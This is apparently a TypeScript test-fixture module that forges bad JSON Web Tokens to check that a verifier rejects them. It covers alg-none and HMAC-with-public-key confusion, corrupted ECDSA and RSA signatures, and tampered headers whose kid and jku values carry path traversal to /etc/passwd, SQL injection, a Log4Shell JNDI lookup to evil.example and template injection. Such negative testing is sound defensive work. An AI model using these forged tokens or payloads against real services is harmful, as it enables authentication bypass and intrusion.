import { createHmac, createSign } from 'node:crypto'
import { base64url, forge, privateKeys, publicKey, signatures, signedAs, stranger, type KeyName } from './forge.ts'

/** A token and what is wrong with it. */
export type Named = readonly [name: string, token: string]

/** A good token's header and claims, to be spoiled. */
export interface Good {
  readonly header: Readonly<Record<string, unknown>>
  readonly claims: Readonly<Record<string, unknown>>
}

const text = JSON.stringify
const eachName = <Value>(values: Readonly<Record<string, Value>>, make: (value: Value) => string): Named[] =>
  Object.entries(values).map(([name, value]) => [name, make(value)])

/** No signature, or one by a key that signs nothing here. */
export function wrongAlgorithms({ header, claims }: Good): readonly Named[] {
  const payload = text(claims)
  const secrets = {
    PEM: publicKey.export({ format: 'pem', type: 'spki' }),
    DER: publicKey.export({ format: 'der', type: 'spki' }),
    JWK: text(publicKey.export({ format: 'jwk' })),
    nothing: '',
  }
  return [
    ...['none', 'None', 'NONE', 'nOnE', '', 'ES257', 'es256', 'ES256 ', 'HS256', 'RSA1_5'].flatMap((alg): Named[] =>
      [Buffer.alloc(0), Buffer.from([0]), undefined].map((signature, index) => [
        `algorithm ${text(alg)}, signature ${index}`,
        forge({ header: text({ ...header, alg }), payload, ...(signature === undefined ? {} : { signedBy: () => signature }) }),
      ]),
    ),
    ...[null, 0, true, ['ES256'], { alg: 'ES256' }].map((alg): Named => [
      `algorithm ${text(alg)}`,
      forge({ header: text({ ...header, alg }), payload }),
    ]),
    ...['256', '384', '512'].flatMap((size) =>
      eachName(secrets, (secret) => {
        const signedBy = (input: Buffer): Buffer => createHmac(`sha${size}`, secret).update(input).digest()
        return forge({ header: text({ ...header, alg: `HS${size}` }), payload, signedBy })
      }).map(([name, token]): Named => [`HS${size} with the public key as ${name}`, token]),
    ),
    ...Object.keys(signatures).flatMap((alg) =>
      (Object.keys(privateKeys) as KeyName[])
        .filter((kid) => signatures[alg]?.[0] !== kid)
        .map((kid): Named => [
          `${alg} under the key ${kid}`,
          forge({ header: text({ ...header, alg, kid }), payload, signedBy: signedAs(alg) }),
        ]),
    ),
    ['PS256 signed as RS256', forge({ header: text({ ...header, alg: 'PS256', kid: 'rsa' }), payload, signedBy: signedAs('RS256') })],
    ['RS256 signed as PS256', forge({ header: text({ ...header, alg: 'RS256', kid: 'rsa' }), payload, signedBy: signedAs('PS256') })],
    ['a stranger’s signature', forge({ header: text(header), payload, signedBy: signedAs('ES256', stranger.privateKey) })],
  ]
}

const order = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex')
const zero = Buffer.alloc(32)
const ones = Buffer.alloc(32, 0xff)

/** Signatures that are nearly right. */
export function wrongSignatures({ header, claims }: Good): readonly Named[] {
  const changed = (change: (r: Buffer, s: Buffer) => Buffer): string =>
    forge({
      header: text(header),
      payload: text(claims),
      signedBy: (input) => {
        const whole = signedAs('ES256')(input)
        return change(whole.subarray(0, 32), whole.subarray(32))
      },
    })
  const rsa = (change: (signature: Buffer) => Buffer): string =>
    forge({
      header: text({ ...header, alg: 'RS256', kid: 'rsa' }),
      payload: text(claims),
      signedBy: (input) => change(signedAs('RS256')(input)),
    })
  const whole = (r: Buffer, s: Buffer): Buffer => Buffer.concat([r, s])
  const flipped = (bytes: Buffer, bit: number): Buffer => {
    const copy = Buffer.from(bytes)
    copy[bit >> 3] = (copy[bit >> 3] ?? 0) ^ (1 << (bit & 7))
    return copy
  }
  return [
    ['r and s exchanged', changed((r, s) => whole(s, r))],
    ...[zero, order, ones].flatMap((value, index): Named[] => [
      [`r special ${index}`, changed((_r, s) => whole(value, s))],
      [`s special ${index}`, changed((r) => whole(r, value))],
      [`r and s special ${index}`, changed(() => whole(value, value))],
    ]),
    [
      'in DER',
      forge({
        header: text(header),
        payload: text(claims),
        signedBy: (input) => createSign('sha256').update(input).sign(privateKeys.p256),
      }),
    ],
    ...Array.from({ length: 8 }, (_, cut): Named => [`cut by ${cut + 1}`, changed((r, s) => whole(r, s).subarray(0, 63 - cut))]),
    ...Array.from({ length: 4 }, (_, more): Named => [
      `longer by ${more + 1}`,
      changed((r, s) => Buffer.concat([r, s, Buffer.alloc(more + 1)])),
    ]),
    ['with a leading zero', changed((r, s) => Buffer.concat([Buffer.alloc(1), r, s]))],
    ['twice', changed((r, s) => Buffer.concat([r, s, r, s]))],
    ...Array.from({ length: 64 }, (_, index): Named => [`bit ${index * 8} flipped`, changed((r, s) => flipped(whole(r, s), index * 8))]),
    ['RSA, cut', rsa((signature) => signature.subarray(1))],
    ['RSA, longer', rsa((signature) => Buffer.concat([signature, zero]))],
    ['RSA, all zero', rsa((signature) => Buffer.alloc(signature.length))],
    ['RSA, all ones', rsa((signature) => Buffer.alloc(signature.length, 0xff))],
    ...[0, 500, 1000, 2047].map((bit): Named => [`RSA, bit ${bit} flipped`, rsa((signature) => flipped(signature, bit))]),
  ]
}

/** Headers that say more, or other things, than a token's header may. */
export function wrongHeaders({ header, claims }: Good): readonly Named[] {
  const payload = text(claims)
  const signed = (more: Readonly<Record<string, unknown>>): string => forge({ header: text({ ...header, ...more }), payload })
  const byStranger = (more: Readonly<Record<string, unknown>>): string =>
    forge({ header: text({ ...header, ...more }), payload, signedBy: signedAs('ES256', stranger.privateKey) })
  const own = stranger.publicKey.export({ format: 'jwk' })
  const kids = [
    '',
    'P256',
    'p256 ',
    '../../../../etc/passwd',
    '/dev/null',
    '/proc/self/environ',
    "' OR '1'='1",
    "p256' --",
    'p256\u0000',
    '*',
  ]
  const urls = ['https://evil.example/jwks.json', 'http://127.0.0.1:1/jwks', 'file:///etc/passwd']
  return [
    ...[['exp'], ['b64'], [], 'b64', ['x-new'], [''], null].map((crit): Named => [
      `crit ${text(crit)}`,
      signed({ crit, b64: true, 'x-new': 1, exp: claims['exp'] }),
    ]),
    ['b64 false', signed({ b64: false })],
    ['b64 false and named', signed({ b64: false, crit: ['b64'] })],
    ['a payload that is not encoded', `${base64url(text({ ...header, b64: false, crit: ['b64'] }))}.${payload}.AAAA`],
    ...urls.flatMap((url): Named[] => [
      [`jku ${url}`, byStranger({ jku: url })],
      [`x5u ${url}`, byStranger({ x5u: url })],
      [`jku ${url} and its own kid`, byStranger({ jku: url, kid: 'theirs' })],
    ]),
    ['its own jwk', byStranger({ jwk: own })],
    ['its own jwk under our kid', byStranger({ jwk: { ...own, kid: 'p256' } })],
    ['its own x5c', byStranger({ x5c: [base64url('certificate')] })],
    ...[...kids, 'x'.repeat(3_000), '${jndi:ldap://evil.example}', '{{7*7}}'].map((kid): Named => [
      `kid ${text(kid).slice(0, 40)}`,
      signed({ kid }),
    ]),
    ...[0, 7, true, null, [], ['p256'], {}].map((kid): Named => [`kid ${text(kid)}`, signed({ kid })]),
    ...[
      'id+jwt',
      'dpop+jwt',
      'logout+jwt',
      'jwe',
      'at+jwt ',
      'application/jwt+at',
      'JOSE',
      '',
      'at-jwt',
      'text/at+jwt',
      'secevent+jwt',
    ].map((typ): Named => [`typ ${text(typ)}`, signed({ typ })]),
    ...[null, 7, ['at+jwt'], {}, true].map((typ): Named => [`typ ${text(typ)}`, signed({ typ })]),
    ['no typ', signed({ typ: undefined })],
    ...['alg', 'typ', 'kid'].flatMap((name): Named[] => {
      const member = `"${name}":${text(header[name])}`
      const rest = text(header).slice(1)
      return [
        [`${name} twice`, forge({ header: `{${member},${rest}`, payload })],
        [`${name} twice, another first`, forge({ header: `{"${name}":"none",${rest}`, payload })],
        [
          `${name} twice, once escaped`,
          forge({ header: `{"\\u00${name.charCodeAt(0).toString(16)}${name.slice(1)}":"none",${rest}`, payload }),
        ],
      ]
    }),
  ]
}
